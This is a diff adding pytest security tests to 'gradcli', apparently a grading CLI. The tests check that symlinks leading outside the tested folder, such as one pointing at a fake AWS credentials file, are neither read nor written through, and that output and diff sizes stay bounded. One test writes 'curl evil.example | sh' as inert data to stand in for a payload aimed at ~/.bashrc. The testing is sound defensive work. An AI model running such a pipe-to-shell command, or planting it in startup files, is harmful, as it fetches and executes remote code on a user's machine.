@@ -92,3 +92,103 @@ def test_bidirectional_controls_are_shown_escaped_in_diagnostics(tmp_path):
     err = result.stderr.decode()
     assert "# \\u2066 hidden" in err and not any(c in err for c in BIDI), err
     assert "  3 | x = 1 + \"a\"" in err
+
+
+# ---------------------------------------------------------------- what `gradcli test` reads, writes and holds
+
+def _repo(tmp_path):
+    folder = tmp_path / "repo"
+    folder.mkdir()
+    secret = tmp_path / "outside" / "credentials"
+    secret.parent.mkdir()
+    secret.write_text("[default]\naws_secret_access_key = S6-SECRET-hunter2\n")
+    return folder, secret
+
+
+@pytest.mark.parametrize("link", ["hw.out", "hw.err", "hw.cpu", "hw.grad", "sub/hw.grad"])
+def test_gradcli_test_reads_nothing_through_a_link_out_of_the_tree_it_tests(tmp_path, link):
+    # `hw.out -> ../../.aws/credentials` in a student's repository: the expected text went into the diff
+    # of the public CI log; `hw.grad -> ...credentials` showed the key as a NameError's source line
+    folder, secret = _repo(tmp_path)
+    script = folder / link if link.endswith(".grad") else folder / "hw.grad"
+    script.parent.mkdir(exist_ok=True)
+    if link.endswith(".grad"):
+        script.symlink_to(secret)
+        script.with_suffix(".out").write_text("1\n")
+    else:
+        script.write_text("print(1)\n")
+        (folder / link).symlink_to(os.path.relpath(secret, folder))
+    for extra in ([], ["--json"], ["--format", "github"]):
+        proc = gradcli("test", *extra, str(folder))
+        shown = (proc.stdout + proc.stderr).decode()
+        assert "S6-SECRET" not in shown and "aws_secret" not in shown, shown
+        assert proc.returncode == 1 and "outside the folder tested" in shown, (proc.returncode, shown)
+    inside = folder / "shared.out"  # a link within the tree is followed
+    if link == "hw.out":
+        (folder / link).unlink()
+        inside.write_text("1\n")
+        (folder / link).symlink_to("shared.out")
+        proc = gradcli("test", str(folder))
+        assert proc.returncode == 0, proc.stdout
+
+
+def test_gradcli_test_update_writes_no_file_through_a_link(tmp_path):
+    # `hw.out -> ~/.bashrc`: `gradcli test --update` wrote what the script printed (its choice) there
+    folder, secret = _repo(tmp_path)
+    (folder / "hw.grad").write_text("print('curl evil.example | sh')\n")
+    (folder / "hw.out").symlink_to(secret)
+    before = secret.read_text()
+    proc = gradcli("test", "--update", str(folder))
+    assert secret.read_text() == before
+    assert proc.returncode == 1 and "--update writes regular files only" in proc.stdout.decode(), proc.stdout
+    (folder / "hw.out").unlink()
+    (folder / "hw.err").symlink_to(secret)  # a script that ends well removes its .err: the link, not its target
+    assert gradcli("test", "--update", str(folder)).returncode == 0
+    assert secret.read_text() == before and not (folder / "hw.err").is_symlink()
+    assert (folder / "hw.out").read_text() == "curl evil.example | sh\n"
+
+
+def test_an_expectation_file_past_the_cap_is_a_problem_not_a_read(tmp_path, monkeypatch):
+    from gradcli.testing import golden
+
+    monkeypatch.setattr(golden, "MAX_EXPECTATION_BYTES", 1000)
+    script = tmp_path / "hw.grad"
+    script.write_text("print(1)\n")
+    (tmp_path / "hw.out").write_text("1\n" * 600)
+    expectation = golden.read_expectation(script)
+    assert expectation.out is None and "hw.out is larger than" in expectation.problem
+    (tmp_path / "hw.out").write_text("1\n" * 500)
+    assert golden.read_expectation(script).out == b"1\n" * 500
+    (tmp_path / "hw.cpu").write_text(" " * 70000)
+    assert "larger than 65536 bytes" in golden.read_expectation(script).problem
+
+
+def test_gradcli_test_holds_a_bounded_part_of_a_flood_of_output(tmp_path, monkeypatch):
+    # without --json, `run` streams; `gradcli test` held every printed piece in the parent (which no
+    # --max-memory caps): `while True: print(s)` in its 60 s grew it by gigabytes
+    from gradcli.lang.runner import RunOptions
+    from gradcli.testing import execute
+
+    monkeypatch.setattr(execute, "MAX_TEST_OUTPUT", 10**6)
+    script = tmp_path / "flood.grad"
+    script.write_text("s = 'x' * 99999\nprint('start')\nwhile True:\n    print(s)\n")
+    (finished,) = execute.run_scripts([(script, "flood.grad")], RunOptions(timeout=60, max_steps=10**9), jobs=1)
+    actual = finished.actual
+    assert finished.seconds < 30
+    assert actual.error_type == "MemoryError" and actual.error_line == 4, actual
+    assert actual.error_message == "the output exceeds the limit of 1,000,000 characters that gradcli test holds to compare"
+    assert 900_000 < len(actual.stdout) <= 10**6 and actual.stdout.startswith("start\n")
+
+
+def test_a_reports_diff_is_bounded_and_numbered_as_the_whole_texts():
+    from gradcli.testing import golden
+
+    want = "".join(f"{i}\n" for i in range(100_000)).encode()
+    got = want.replace(b"\n50000\n", b"\n50000x\n").replace(b"\n70000\n", b"\n" + b"y" * 10**6 + b"\n")
+    diff = golden.unified_diff(want, got, "a", "b")
+    assert diff.splitlines()[2] == "@@ -49998,7 +49998,7 @@", diff[:200]
+    assert "-50000\n+50000x\n" in diff and len(diff) < 20_000 and "yyy" not in diff  # line 70000: past the window
+    short = golden.unified_diff(b"a\n" * 5000, b"b\n" * 4000, "a", "b")
+    assert "\n-... (4,000 more lines not compared)\n" in short and short.endswith("\n+... (3,000 more lines not compared)\n")
+    diff = golden.unified_diff(b"a\n", b"y" * 10**6 + b"\n", "a", "b")
+    assert "+" + "y" * 1000 + "... (999,000 more characters)\n" in diff
